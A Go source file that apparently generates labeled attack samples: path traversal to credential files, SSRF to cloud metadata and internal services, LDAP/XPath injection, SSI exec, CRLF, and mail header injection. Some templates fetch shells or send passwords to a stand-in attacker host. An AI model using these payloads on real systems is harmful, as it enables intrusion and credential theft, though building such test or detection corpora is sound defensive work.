package south

// Attacks that reach for files, addresses, directories and mail.

func reachWords() map[string][]string {
	return map[string][]string{
		"secret":   split("etc/passwd|etc/shadow|etc/hosts|proc/self/environ|etc/ssh/sshd_config|root/.ssh/id_rsa|var/log/auth.log|windows/win.ini|boot.ini|windows/system32/drivers/etc/hosts|WEB-INF/web.xml|.env|.git/config|config/database.yml|app/config/parameters.yml|home/‹user›/.aws/credentials|proc/self/cmdline|inetpub/wwwroot/web.config|var/run/secrets/kubernetes.io/serviceaccount/token|opt/tomcat/conf/tomcat-users.xml"),
		"winfile":  split("windows\\win.ini|boot.ini|windows\\system32\\config\\SAM|inetpub\\wwwroot\\web.config|users\\administrator\\ntuser.dat|windows\\repair\\sam"),
		"dots":     split("../../|../../../|../../../../|../../../../../../|../../../../../../../../"),
		"inner":    split("10.‹0..255›.‹0..255›.‹1..254›|192.168.‹0..255›.‹1..254›|172.‹16..31›.‹0..255›.‹1..254›|127.0.0.1|localhost|127.‹0..9›.‹0..9›.‹1..9›|0.0.0.0|[::1]|[::ffff:127.0.0.1]|[fd00::‹hex4›]"),
		"port":     split("22|80|2375|3306|5432|6379|8080|8500|9200|10250|11211|27017"),
		"meta":     split("latest/meta-data/|latest/meta-data/iam/security-credentials/|latest/user-data|latest/dynamic/instance-identity/document|computeMetadata/v1/instance/service-accounts/default/token|metadata/instance?api-version=2021-02-01|openstack/latest/meta_data.json|opc/v1/instance/"),
		"any":      split("*|*)(|a*|*‹letters›*"),
		"ldapattr": split("uid|cn|mail|objectClass|userPassword|memberOf|sn|sAMAccountName"),
	}
}

func attackFiles() []family {
	trav := func(name string, say ...string) family {
		return family{name: "traversal/" + name, class: "traversal", at: fileSpots(), say: say}
	}
	return []family{
		trav("deep-dots", "‹dots›‹secret›", "‹dirs›/‹dots›‹secret›", "/‹dots›‹dots›‹secret›", "‹slug›.‹ext›/‹dots›‹dots›‹secret›", "./‹dots›‹secret›"),
		trav("backslashes", "..\\..\\..\\‹winfile›", "‹slug›\\..\\..\\..\\..\\‹winfile›", "..\\../..\\../‹secret›", "\\..\\..\\..\\‹winfile›", "\\\\?\\c:\\‹winfile›", "..\\\\..\\\\..\\\\‹winfile›"),
		trav("absolute", "/‹secret›", "file:///‹secret›", "c:\\‹winfile›", "C:/windows/win.ini", "//‹secret›", "/./‹secret›", "/etc//passwd", "/proc/‹1..9000›/fd/‹1..20›", "\\\\‹evil›\\share\\‹letters›.dll"),
		trav("doubled-filters", "....//....//....//‹secret›", "..././..././..././‹secret›", "....\\/....\\/‹secret›", "..//..//..//‹secret›", ".../.../.../‹secret›", "/..;/..;/‹secret›", "..;/..;/manager/html", "/%2e%2e/%2e%2e/‹secret›"),
		trav("cut-suffix", "‹dots›‹secret›\x00.‹png|jpg|html›", "‹dots›‹secret›\x00", "‹dots›‹secret›?.‹ext›", "‹dots›‹secret›#.‹ext›", "‹dots›‹secret›;.‹ext›", "‹dots›‹secret›............", "‹slug›/../‹dots›‹secret›%00.html"),
		trav("odd-bytes", "..\xc0\xaf..\xc0\xaf..\xc0\xaf‹secret›", "\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/‹secret›", "..%c0%af..%c0%af‹secret›", "..%u2215..%u2215‹secret›", "..∕..∕..∕‹secret›", "..／..／..／‹secret›", "．．/．．/．．/‹secret›", "..%25c0%25af..%25c0%25af‹secret›", "%uff0e%uff0e/%uff0e%uff0e/‹secret›", "..\xe0\x80\xaf..\xe0\x80\xaf..\xe0\x80\xaf‹secret›", "..%e0%80%af..%e0%80%af‹secret›"),
		trav("wrappers", "php://filter/convert.base64-encode/resource=‹index|config|../config›.php", "php://input", "data://text/plain;base64,‹b64›", "expect://‹unixcmd›", "zip://‹dirs›/‹slug›.jpg#‹letters›.php", "phar://‹dots›uploads/‹slug›.gif", "jar:file:///‹secret›!/‹letters›", "netdoc:///‹secret›", "glob:///var/www/*"),
		trav("remote-include", "http://‹evil›/‹letters›.txt?", "https://‹evil›/shell.php%00", "ftp://‹evil›/‹letters›.php", "//‹evil›/‹letters›.inc", "\\\\‹evil›\\c$\\‹letters›.php", "hTTp://‹evil›/c99.txt?cmd=id"),
		trav("archive-entry", "../../../../var/www/html/‹letters›.php", "../../../root/.ssh/authorized_keys", "..\\..\\..\\Startup\\‹letters›.bat", "‹slug›/../../../../etc/cron.d/‹letters›", "../../../../../../opt/‹en-noun›/webapps/‹letters›.war"),
		trav("dotfiles", "‹dirs›/../.git/HEAD", "../.env", "../../.aws/credentials", "‹dots›.ssh/id_ed25519", "..\\..\\web.config", "../../../.kube/config", "‹dirs›/../../.htpasswd", "‹dots›.bash_history"),
	}
}

func attackAddresses() []family {
	ssrf := func(name string, say ...string) family {
		return family{name: "ssrf/" + name, class: "ssrf", at: urlSpots(), say: say}
	}
	return []family{
		ssrf("metadata", "http://169.254.169.254/‹meta›", "http://metadata.google.internal/‹meta›", "http://100.100.100.200/latest/meta-data/‹letters›", "http://[fd00:ec2::254]/‹meta›", "http://169.254.170.2/v2/credentials/‹uuid›", "http://instance-data/‹meta›", "https://kubernetes.default.svc/api/v1/namespaces/‹slug›/secrets"),
		ssrf("internal-range", "http://‹inner›:‹port›/", "https://‹inner›/‹dirs›", "http://‹inner›:‹port›/‹_cat/indices|v1/kv/‹letters››?recurse", "http://‹inner›/admin/‹en-noun›?id=‹num›", "http://localhost:‹port›/actuator/‹env|heapdump›"),
		ssrf("number-forms", "http://2130706433/‹dirs›", "http://0x7f000001:‹port›/", "http://0177.0.0.‹1..9›/", "http://0x7f.0x0.0x0.0x1/‹letters›", "http://2852039166/‹meta›", "http://0xa9fea9fe/‹meta›", "http://127.1:‹port›/‹letters›", "http://0/‹dirs›", "http://0251.0376.0251.0376/‹meta›", "http://[0:0:0:0:0:ffff:7f00:1]/‹letters›", "http://①②⑦.⓪.⓪.①/‹letters›", "http://017700000001:‹port›/"),
		ssrf("odd-schemes", "gopher://‹inner›:‹port›/_‹FLUSHALL|SET›%0d%0a‹letters›", "dict://‹inner›:‹port›/‹info|stat›", "file:///‹secret›", "ldap://‹inner›:389/‹letters›", "tftp://‹evil›/‹letters›", "sftp://‹evil›:‹port›/", "jar:http://‹inner›!/‹letters›", "netdoc:///‹secret›", "gopher://‹inner›:25/_HELO%20‹letters›%0d%0a", "unix:/var/run/docker.sock:http://x/containers/json"),
		ssrf("userinfo-trick", "http://‹domain›@‹inner›/‹letters›", "https://‹domain›:443@169.254.169.254/‹meta›", "http://‹inner›#@‹domain›/", "http://‹domain›\\@‹inner›/", "http://‹user›:‹letters›@‹inner›:‹port›/", "http://‹inner›%23@‹domain›/‹dirs›"),
		ssrf("rebinding-names", "http://127.0.0.1.nip.io/‹dirs›", "http://169.254.169.254.sslip.io/‹meta›", "http://localtest.me:‹port›/‹letters›", "http://10-‹0..255›-0-‹1..254›.nip.io:‹port›/", "http://‹letters›.127.0.0.1.xip.io/", "http://spoofed.‹letters›.burpcollaborator.net/‹letters›", "http://customer1.app.localhost.my.company.127.0.0.1.nip.io"),
		ssrf("after-honest-url", "https://‹domain›/redirect?to=http://169.254.169.254/‹meta›", "https://cdn.‹domain›/img?src=http://‹inner›:‹port›/‹letters›", "https://‹domain›/r?url=gopher://‹inner›:6379/_‹letters›", "‹url›,http://‹inner›:‹port›/", "https://‹domain›/proxy/http://localhost:‹port›/‹dirs›"),
		ssrf("local-sockets", "http://localhost:‹port›/‹v1.41/containers/json|_all_dbs|manager/html›", "http://LOCALHOST:‹port›/‹letters›", "hTTp://127.0.0.1:2375/images/json?x=‹letters›", "http://localhost.:‹port›/‹dirs›", "http://[::]:‹port›/‹letters›", "http://0.0.0.0:‹port›/api/‹en-noun›", "http://127.0.0.1:‹port›\\@‹domain›"),
		ssrf("out-of-band", "http://‹letters›.oast.‹site|live|fun›/‹letters›", "http://$(whoami).‹evil›/", "https://‹hex16›.interact.sh", "http://‹letters›‹num›.dnslog.cn/‹letters›", "http://‹hex24›.requestrepo.com/‹letters›"),
	}
}

func attackDirectories() []family {
	about := func(class, name string, say ...string) family {
		return family{name: class + "/" + name, class: class, at: fieldSpots(), say: say}
	}
	return []family{
		about("ldap", "wildcard-close", "*)(‹ldapattr›=*", "‹user›*)(‹ldapattr›=*))(|(‹ldapattr›=*", "*)(|(‹ldapattr›=*))", "‹user›)(&)", "*))%00", "‹h-ascii›*)(‹ldapattr›=‹letters›*)"),
		about("ldap", "and-true", "‹user›)(&(‹ldapattr›=*)", "‹user›)(!(&(1=0", "*)(&", "‹user›)(‹pipe›(password=*)", "admin)(!(&(|", "‹user›))(|(‹ldapattr›=*"),
		about("ldap", "attribute-probe", "*)(userPassword=‹letters›*", "‹user›)(mail=‹letters›*)(cn=*", "*)(objectClass=person)(‹ldapattr›>=‹letters›", "‹user›*)(memberOf=cn=admins*", "‹h-ascii›)(‹ldapattr›~=‹letters›)(&(a=b"),
		about("ldap", "dn-escape", "‹user›,ou=admins)(&(‹ldapattr›=*", "cn=‹user›)(|(cn=*", "‹user›\\2a)(‹ldapattr›=\\2a", "‹name›)(objectClass=*", "*)(‹ldapattr›:caseExactMatch:=‹letters›*)"),
		about("xpath", "or-true", "‹h›' or '1'='1", "‹user›'] | //user/*[contains(*,'", "' or count(/*)=‹1..9› or 'a'='b", "‹h›' or position()=‹1..9› or ''='", "x' or name()='‹user|password›' or 'x'='y"),
		about("xpath", "functions", "‹h›' and string-length(//user[‹1..9›]/password)=‹4..20› and '1'='1", "' or substring(//‹user|account›[1]/‹name|pin›,‹1..9›,1)='‹letters›' or '", "‹h›' and starts-with(name(/*),'‹letters›') and 'a'='a", "' or contains(//text(),'‹letters›') and ''='", "‹h›\" and count(//‹en-noun›/child::node())>‹1..9› and \"1\"=\"1"),
		about("xpath", "node-dump", "‹h›'] | //* | //*['", "']/../../*[‹1..9›] | a['", "‹h›')]|//‹password|node()|text()›|a[('", "*/‹user›/parent::node()/child::*", "'] | /descendant-or-self::node()/@* | x['", "..//..//password/text()"),
		about("xpath", "xquery", "‹h›' or doc('http://‹evil›/‹letters›')/x or '", "'] return doc(concat('http://‹evil›/?d=',//password)) (:", "‹h›' and doc-available('file:///‹secret›') and 'a'='a", "' or unparsed-text('file:///‹secret›')!='"),
		about("ssi", "exec", "<!--#exec cmd=\"‹unixcmd›\" -->", "‹prose›<!--#exec cmd='‹unixcmd›'-->", "<!--#exec cgi=\"/cgi-bin/‹letters›.cgi\"-->", "‹name› <!--#EXEC cmd=\"‹shellcmd›\"-->"),
		about("ssi", "include", "<!--#include virtual=\"/‹secret›\" -->", "<!--#include file=\"‹dots›‹secret›\"-->", "‹prose› <!--#include virtual='http://‹evil›/‹letters›'-->", "<esi:include src=\"http://‹evil›/‹letters›\"/>", "‹h›<esi:include src='/admin/‹en-noun›' onerror='continue'/>"),
		about("ssi", "echo", "<!--#echo var=\"‹DOCUMENT_ROOT|HTTP_USER_AGENT|DATE_LOCAL›\" -->‹letters›", "‹prose›<!--#printenv -->", "<!--#config errmsg=\"‹letters›\"--><!--#echo var=\"‹letters›\"-->", "<!--#fsize file=\"/‹secret›\"-->", "<esi:vars>$(HTTP_COOKIE{‹letters›})</esi:vars>"),
	}
}

func attackLines() []family {
	crlf := func(name string, say ...string) family {
		return family{name: "crlf/" + name, class: "crlf", at: []string{"query GET /redirect ‹url|next|lang|to›", "path GET /go -", "path GET ~ -", "query GET ~ ‹callback|locale|name›", "form POST /set ‹lang|theme›", "cookie GET ~ ‹lang|back›", "json POST ~ headers.‹x-note|location›", "header GET ~ ‹x-forwarded-host|referer›", "gqlvar POST /graphql input.redirect", "multipart POST /export name", "xml POST /legacy hook.header", "rpc POST /rpc log.message", "filename POST /media file"}, say: say}
	}
	mail := func(name string, say ...string) family {
		return family{name: "mail/" + name, class: "mail", at: []string{"form POST /contact ‹email|from|subject|name›", "json POST /invites ‹email|subject|reply_to›", "json POST /mail/send to[].‹address|name›", "query GET /share ‹to|email›", "gqlvar POST /graphql input.email", "multipart POST /contact ‹email|subject›", "rpc POST /rpc mail.to", "xml POST /legacy mail.from", "cookie GET ~ reply_to", "jsonapi POST ~ email"}, say: say}
	}
	return []family{
		crlf("set-cookie", "‹h›\r\nSet-Cookie: ‹sid|role|admin›=‹letters›", "/‹dirs›\r\nset-cookie:‹letters›=‹num›; path=/", "‹h›\nSet-Cookie: ‹letters›=‹hex8›", "‹h›嘍嘊Set-Cookie:‹letters›=1", "‹h›\rSet-Cookie: ‹letters›=1"),
		crlf("location-and-body", "‹h›\r\nLocation: http://‹evil›/\r\n", "‹h›\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>‹letters›</h1>", "‹domain›\r\nX-XSS-Protection: 0\r\n\r\n<script>alert(‹num›)</script>", "‹h›\r\n\r\n<html>‹letters›"),
		crlf("smuggled-request", "‹h› HTTP/1.1\r\nHost: ‹evil›\r\n\r\nGET /admin/‹en-noun› HTTP/1.1\r\nHost: localhost", "‹h›\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPOST /‹dirs› HTTP/1.1\r\n", "‹h›\r\nX-Forwarded-For: 127.0.0.1\r\nX-‹letters›: 1", "‹h›\r\nHost: ‹evil›\r\n"),
		crlf("cors-and-cache", "‹h›\r\nAccess-Control-Allow-Origin: http://‹evil›\r\nAccess-Control-Allow-Credentials: true", "‹h›\r\nCache-Control: public, max-age=‹num›\r\nX-‹letters›: ‹letters›", "‹h›\r\nRefresh: 0;url=//‹evil›", "‹h›\nContent-Type: text/html; charset=utf-7\n"),
		crlf("log-forging", "‹user›\r\n‹stamp› INFO login ok user=admin ip=‹ip›", "‹h›\n\n‹stamp› [audit] role changed to admin by root", "‹user›\r\n\x1b[2K\x1b[1A‹syslogdate› sshd[‹num›]: Accepted password for root\r\n"),
		mail("bcc", "‹email›\r\nBcc: ‹email›", "‹email›\nBcc:‹email›,‹email›", "‹name›\r\nbcc: ‹email›\r\n", "‹sentence›\r\nCC: ‹email›", "‹email›\r\nTo: ‹email›\r\nSubject: ‹fewwords›"),
		mail("body", "‹email›\r\nSubject: ‹noun›\r\nContent-Type: text/html\r\n\r\n<a href=http://‹evil›>‹noun›</a>", "‹sentence›\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=‹letters›\r\n\r\n--‹letters›\r\n", "‹email›\nReply-To: ‹user›@‹evil›\n\n‹sentence›"),
		mail("smtp-verbs", "‹email›>\r\nRCPT TO:<‹email›>\r\nDATA\r\n‹sentence›\r\n.\r\n", "‹email›\r\n.\r\nMAIL FROM:<‹user›@‹evil›>\r\n", "‹h›\r\nQUIT\r\n", "‹email›\r\nVRFY root\r\nEXPN ‹letters›"),
		mail("imap-and-sendmail", "‹h›\" \r\nA‹1..99› LOGOUT\r\n", "\"‹user›\\\" -oQ/tmp/ -X/var/www/‹letters›.php ‹letters›\"@‹domain›", "‹user›@‹domain› -OQueueDirectory=/tmp -X/var/www/html/‹letters›.php", "INBOX\"\r\nV‹100..900› CREATE \"‹letters›"),
	}
}
